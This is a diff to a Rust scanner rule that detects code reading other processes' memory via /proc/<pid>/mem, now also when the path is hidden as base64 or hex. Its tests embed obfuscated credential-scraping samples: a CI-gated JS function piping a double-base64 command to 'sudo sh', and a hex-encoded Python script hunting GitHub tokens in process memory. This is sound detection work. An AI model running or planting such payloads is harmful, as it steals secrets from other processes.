@@ -17,7 +17,10 @@ diligence_finding::declare_rule! {
     /// any of the shapes a program builds it: a template (`` `/proc/${pid}/mem` ``), a
     /// concatenation (`'/proc/' + pid + '/mem'`), a path join (`path.join('/proc', pid, 'mem')`),
     /// a printf or format string (`'/proc/%d/mem'`, `'/proc/{}/mem'`), a shell variable
-    /// (`/proc/$PID/mem`) or a number. `/proc/self/mem` is not another process. High; critical
+    /// (`/proc/$PID/mem`) or a number, written out or hidden as base64 or hex (down to two
+    /// levels: base64 of base64, a base64 script inside an encoded command), as in a Python
+    /// scraper run through `sudo python3 -c "exec(base64.b64decode('…'))"`.
+    /// `/proc/self/mem` is not another process. High; critical
     /// when the same file picks its target process by name (`/proc/<pid>/cmdline`, `comm`,
     /// `pgrep`, `pidof`) or hunts secrets in what it reads (`secret`, `token`, `password`…).
     ///
@@ -65,15 +68,26 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         let Some(text) = f.text.as_deref() else {
             continue;
         };
-        if !text.contains("/proc") || !text.contains("mem") {
-            continue;
-        }
-        let Some(m) = MEM_PATH.find(text) else {
+        // The path as written, or in text hidden as base64/hex (a Python scraper run by
+        // `python3 -c "exec(base64.b64decode('…'))"`, base64 of base64), placed at its run.
+        let direct = (text.contains("/proc") && text.contains("mem"))
+            .then(|| MEM_PATH.find(text))
+            .flatten()
+            .map(|m| (m.start(), m.as_str().to_string(), String::new()));
+        let hidden = || {
+            crate::decode::embedded_texts(text, 2)
+                .into_iter()
+                .find_map(|(at, d)| {
+                    let m = MEM_PATH.find(&d)?;
+                    Some((at, m.as_str().to_string(), d))
+                })
+        };
+        let Some((at, path, decoded)) = direct.or_else(hidden) else {
             continue;
         };
-        let line = text[..m.start()].bytes().filter(|b| *b == b'\n').count() as u32 + 1;
-        let targeted = BY_NAME.is_match(text);
-        let hunting = SECRET_HUNT.is_match(text);
+        let line = text[..at].bytes().filter(|b| *b == b'\n').count() as u32 + 1;
+        let targeted = BY_NAME.is_match(text) || BY_NAME.is_match(&decoded);
+        let hunting = SECRET_HUNT.is_match(text) || SECRET_HUNT.is_match(&decoded);
         let sev = if targeted || hunting {
             Severity::Critical
         } else {
@@ -89,9 +103,17 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             kind: Kind::FsRead,
             line,
             func: 0,
-            detail: truncate(m.as_str(), 80),
+            detail: truncate(&path, 80),
         };
-        let msg = format!("reads another process's memory ({}){why}", s.detail);
+        let encoded = if decoded.is_empty() {
+            ""
+        } else {
+            ", in text hidden as base64/hex"
+        };
+        let msg = format!(
+            "reads another process's memory ({}){encoded}{why}",
+            s.detail
+        );
         // The path is the whole behaviour: opening it is the read.
         let mut x = finding(
             &PROCESS_MEMORY_READ,
@@ -193,6 +215,35 @@ mem = open('/proc/%s/mem' % pid, 'rb')
         // A process-list library reads other processes' status and command lines, and a
         // sandbox probe its own memory: neither is another process's memory.
         let js = "const fs = require('fs');\nexports.list = () => fs.readdirSync('/proc').filter((d) => /^\\d+$/.test(d)).map((pid) => ({ pid, cmd: fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8'), status: fs.readFileSync(`/proc/${pid}/status`, 'utf8'), maps: fs.readFileSync('/proc/' + pid + '/maps', 'utf8') }));\nexports.self = () => fs.existsSync('/proc/self/mem');\nexports.total = () => fs.readFileSync('/proc/meminfo', 'utf8');\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert!(hits(&s, RULE).is_empty());
+    }
+
+    /// A shell command hidden as base64 of base64, decoded and piped to `sudo sh` from a
+    /// CI-gated function: the path is found in the twice-decoded text, placed at its literal.
+    #[test]
+    fn positive_double_base64_shell_command() {
+        let js = "const { execSync } = require('child_process');\nconst C = 'VUVsRVBTUW9jR2R5WlhBZ0xXWWdZV2RsYm5RdVRHbHpkR1Z1WlhJcENtUmtJR2xtUFM5d2NtOWpMeVJRU1VRdmJXVnRJR0p6UFRRd09UWWdjMnRwY0QweE1ESTBJR052ZFc1MFBUUXdPVFlnTWo0dlpHVjJMMjUxYkd3Z2ZDQnpkSEpwYm1keklId2daM0psY0NBdGFTQjBiMnRsYmdvPQ==';\nexports.diag = () => {\n  if (!process.env.CI) return;\n  console.log(execSync(`echo ${C} | base64 -d | base64 -d | sudo sh`).toString());\n};\n";
+        let s = scan(&[("package.json", PJ), ("lib/diag.js", js)]);
+        assert_eq!(hits(&s, RULE), vec![("lib/diag.js".to_string(), 2)]);
+        assert_eq!(severity(&s, RULE), Some(Severity::Critical));
+    }
+
+    /// A Python scraper kept as hex in a Python launcher (`exec(binascii.unhexlify(…))`);
+    /// it picks no process by name and names no secret word (a token pattern only): high.
+    #[test]
+    fn positive_hex_python_in_a_python_file() {
+        let py = "import binascii\n\nexec(binascii.unhexlify('696d706f7274206f732c72650a666f72207020696e2066696c746572287374722e697364696769742c206f732e6c69737464697228272f70726f632729293a0a2020202066203d206f70656e28272f70726f632f7b7d2f6d656d272e666f726d61742870292c2027726227290a202020207072696e742872652e66696e64616c6c287262276768705f5b412d5a612d7a302d395d7b33367d272c20662e726561642831203c3c2032302929290a'))\n";
+        let s = scan(&[("package.json", PJ), ("tools/run.py", py)]);
+        assert_eq!(hits(&s, RULE), vec![("tools/run.py".to_string(), 3)]);
+        assert_eq!(severity(&s, RULE), Some(Severity::High));
+    }
+
+    /// Benign look-alike: base64 Python run with `python3 -c` that reads its own memory and
+    /// status (a memory-usage probe): no other process's memory.
+    #[test]
+    fn negative_base64_python_reading_its_own_memory() {
+        let js = "const { spawnSync } = require('child_process');\nconst P = 'aW1wb3J0IG9zCnJzcyA9IG9wZW4oJy9wcm9jLyVkL3N0YXR1cycgJSBvcy5nZXRwaWQoKSkucmVhZCgpCnByaW50KG9zLnBhdGguZXhpc3RzKCcvcHJvYy9zZWxmL21lbScpLCByc3MpCg==';\nexports.rss = () => spawnSync('python3', ['-c', `import base64;exec(base64.b64decode('${P}'))`]).stdout.toString();\n";
         let s = scan(&[("package.json", PJ), ("index.js", js)]);
         assert!(hits(&s, RULE).is_empty());
     }
